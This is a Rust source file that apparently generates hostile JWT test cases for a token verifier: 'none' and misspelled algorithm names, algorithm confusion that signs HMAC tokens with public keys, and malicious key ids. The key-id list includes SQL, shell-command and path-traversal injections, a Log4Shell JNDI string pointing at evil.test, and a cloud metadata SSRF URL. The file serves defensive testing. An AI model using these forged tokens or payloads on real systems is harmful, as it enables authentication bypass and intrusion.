//! Other algorithms, other keys and other ids of keys.

use aws_lc_rs::signature::{KeyPair, RSA_PKCS1_SHA384, RSA_PKCS1_SHA512, RSA_PSS_SHA256, RsaEncoding};
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::json;

use super::super::forge::{ALGS, Alg, FORGE, SECRET, b64, claims, hs_sign, rsa_modulus, rsa_sign, sealed};
use super::Hostile;

/// Other names of algorithms, with every signature that somebody could accept for them.
/// Other names of algorithms, with every signature that somebody could accept for them.
#[rustfmt::skip]
pub fn algorithms() -> Vec<Hostile> {
    let names = [
        json!("none"), json!("None"), json!("NONE"), json!("nOnE"), json!("none "), json!("n\u{f6}ne"), json!(""),
        json!(" "), json!("es256"), json!("Es256"), json!("ES256 "), json!(" ES256"), json!("ES256\0"),
        json!("ES256\n"), json!("ES256K"), json!("ES384"), json!("ES512"), json!("RS384"), json!("RS512"),
        json!("PS256"), json!("PS384"), json!("PS512"), json!("HS384"), json!("HS512"), json!("HS1"), json!("RS1"),
        json!("EdDSA"), json!("Ed25519"), json!("A128KW"), json!("dir"), json!("RSA1_5"), json!("RSA-OAEP"),
        json!("ML-DSA-44"), json!("SHA256withECDSA"), json!("ES256,RS256"), json!(null), json!(true), json!(false),
        json!(0), json!(256), json!(["ES256"]), json!([]), json!({"alg": "ES256"}), json!({}),
    ];
    let mut found = Vec::new();
    for name in names {
        for alg in ALGS {
            let mut header = alg.header();
            header["alg"] = name.clone();
            found.push((format!("alg {name} signed as {alg:?}"), FORGE.with_header(alg, &header)));
        }
        let header = json!({"alg": name, "kid": "ec-1"}).to_string();
        found.push((format!("alg {name} without a signature"), sealed(&header, claims().to_string(), |_| Vec::new())));
        found.push((format!("alg {name} with a zero"), sealed(header, claims().to_string(), |_| vec![0])));
    }
    for alg in ALGS {
        let mut header = alg.header();
        header.as_object_mut().unwrap().remove("alg");
        found.push((format!("no alg, signed as {alg:?}"), FORGE.with_header(alg, &header)));
    }
    found
}

/// The algorithm of another key, and public keys as secrets.
/// The algorithm of another key, and public keys as secrets.
pub fn confusions() -> Vec<Hostile> {
    let mut found = Vec::new();
    let claims = claims().to_string();
    let point = FORGE.ec.public_key().as_ref().to_vec();
    let spki = [URL_SAFE_NO_PAD.decode("MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE").unwrap(), point[1..].to_vec()].concat();
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", STANDARD.encode(&spki));
    let n = rsa_modulus(&FORGE.rsa);
    let secrets: Vec<(&str, Vec<u8>)> = vec![
        ("an empty secret", Vec::new()),
        ("zeros", vec![0; 32]),
        ("the point", point.clone()),
        ("the coordinates", point[1..].to_vec()),
        ("the SPKI", spki.clone()),
        ("the SPKI in base64", STANDARD.encode(&spki).into_bytes()),
        ("the PEM", pem.clone().into_bytes()),
        ("the PEM without a line break", pem.trim().as_bytes().to_vec()),
        ("the JWK", FORGE.ec_jwk().to_string().into_bytes()),
        ("the document", FORGE.jwks().to_string().into_bytes()),
        ("x", FORGE.ec_jwk()["x"].as_str().unwrap().as_bytes().to_vec()),
        ("n", n.clone()),
        ("n in base64url", b64(&n).into_bytes()),
        ("the RSA key in DER", FORGE.rsa.public_key().as_ref().to_vec()),
        ("the kid", b"ec-1".to_vec()),
        ("the secret in base64", STANDARD.encode(SECRET).into_bytes()),
        ("the secret with a line break", format!("{SECRET}\n").into_bytes()),
        ("the start of the secret", SECRET.as_bytes()[..32].to_vec()),
        ("secret", b"secret".to_vec()),
    ];
    for (name, secret) in &secrets {
        for header in
            [json!({"alg": "HS256"}), json!({"alg": "HS256", "kid": "ec-1"}), json!({"alg": "HS256", "kid": "rsa-1"})]
        {
            let token = sealed(header.to_string(), &claims, |signed| hs_sign(secret, signed));
            found.push((format!("{header} with {name}"), token));
        }
        for header in [Alg::Es256.header(), Alg::Rs256.header()] {
            let token = sealed(header.to_string(), &claims, |signed| hs_sign(secret, signed));
            found.push((format!("{header} with the MAC of {name}"), token));
        }
    }
    for (alg, header) in [
        (Alg::Es256, json!({"alg": "RS256", "kid": "ec-1"})),
        (Alg::Es256, json!({"alg": "ES256", "kid": "rsa-1"})),
        (Alg::Es256, json!({"alg": "RS256", "kid": "rsa-1"})),
        (Alg::Es256, json!({"alg": "HS256", "kid": "ec-1"})),
        (Alg::Rs256, json!({"alg": "ES256", "kid": "rsa-1"})),
        (Alg::Rs256, json!({"alg": "RS256", "kid": "ec-1"})),
        (Alg::Rs256, json!({"alg": "ES256", "kid": "ec-1"})),
        (Alg::Rs256, json!({"alg": "HS256", "kid": "rsa-1"})),
        (Alg::Hs256, Alg::Es256.header()),
        (Alg::Hs256, Alg::Rs256.header()),
    ] {
        found.push((format!("{header} signed as {alg:?}"), FORGE.with_header(alg, &header)));
    }
    let rsa = [
        ("RS384", &RSA_PKCS1_SHA384 as &'static dyn RsaEncoding),
        ("RS512", &RSA_PKCS1_SHA512),
        ("PS256", &RSA_PSS_SHA256),
    ];
    for (name, encoding) in rsa {
        let header = Alg::Rs256.header().to_string();
        found.push((
            format!("RS256 signed as {name}"),
            sealed(header, &claims, |signed| rsa_sign(&FORGE.rsa, encoding, signed)),
        ));
    }
    found
}

/// Ids that name no key, in the ways in which systems look keys up.
#[rustfmt::skip]
pub fn ids() -> Vec<Hostile> {
    let kids = [
        json!(null), json!(""), json!(" "), json!(1), json!(true), json!(["ec-1"]), json!({"ec-1": 1}),
        json!("unknown"), json!("EC-1"), json!("ec-1 "), json!(" ec-1"), json!("ec-1\0"), json!("ec-1\n"),
        json!("ec\u{2010}1"), json!("\u{435}c-1"), json!("../../../../dev/null"), json!("/dev/null"),
        json!("..\\..\\secret"), json!("file:///dev/null"), json!("https://evil.test/key"),
        json!("http://169.254.169.254/latest"), json!("' OR '1'='1"), json!("x' UNION SELECT 'secret' -- "),
        json!("1; drop table nofx.run; --"), json!("$(id)"), json!("`id`"), json!("| id"),
        json!("${jndi:ldap://evil.test}"), json!("{{7*7}}"), json!("%00"), json!("*"), json!("ec-1,rsa-1"),
        json!("__proto__"), json!("constructor"), json!("0"), json!("-1"), json!("\u{202e}1-ce"),
        json!("k".repeat(256)), json!("k".repeat(5_000)), json!("A".repeat(6_000)),
    ];
    let mut found = Vec::new();
    for kid in kids {
        for alg in [Alg::Es256, Alg::Rs256] {
            let mut header = alg.header();
            header["kid"] = kid.clone();
            let name: String = kid.to_string().chars().take(60).collect();
            found.push((format!("kid {name} in {alg:?}"), FORGE.with_header(alg, &header)));
        }
    }
    for alg in [Alg::Es256, Alg::Rs256] {
        let mut header = alg.header();
        header.as_object_mut().unwrap().remove("kid");
        found.push((format!("no kid in {alg:?}"), FORGE.with_header(alg, &header)));
    }
    for kid in [json!(1), json!(["a"]), json!({}), json!(null), json!(false)] {
        found
            .push((format!("kid {kid} in Hs256"), FORGE.with_header(Alg::Hs256, &json!({"alg": "HS256", "kid": kid}))));
    }
    found
}
